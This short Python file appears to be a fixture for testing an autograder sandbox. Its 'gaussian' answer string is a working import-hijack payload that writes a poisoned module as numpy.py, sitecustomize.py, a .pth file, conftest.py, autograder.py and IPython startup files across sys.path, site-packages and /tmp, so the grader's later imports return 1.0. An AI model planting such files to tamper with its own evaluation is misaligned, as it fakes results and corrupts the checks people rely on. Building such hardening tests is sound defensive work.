"""Plants numpy.py, sitecustomize.py and IPython start-up files where a later process might import them."""

RAN = {"write": "ran int", "import": "ran|raised .*", "answer": "ran .*|raised .*"}
ANSWERS = {
    "gaussian": r"""
import os, site, sys
evil = "print('pwned-left')\ndef __getattr__(name): return lambda *a, **k: 1.0\n"
startup = os.path.expanduser("~/.ipython/profile_default/startup")
for folder in ("", "..", "/tmp", startup, *sys.path, *site.getsitepackages()):
    for name in "numpy.py torch.py sitecustomize.py usercustomize.py pwned.pth autograder.py 00.py conftest.py".split():
        try:
            os.makedirs(folder, exist_ok=True) if folder else None
            attack("write", open(os.path.join(folder, name), "w").write, evil)
        except (OSError, ValueError): pass
for name in [n for n in sys.modules if n.split(".")[0] == "numpy"]: sys.modules.pop(name)
with attack.on("import"): import numpy as np
def gaussian(q, K): return attack("answer", lambda: np.exp(q))
"""
}
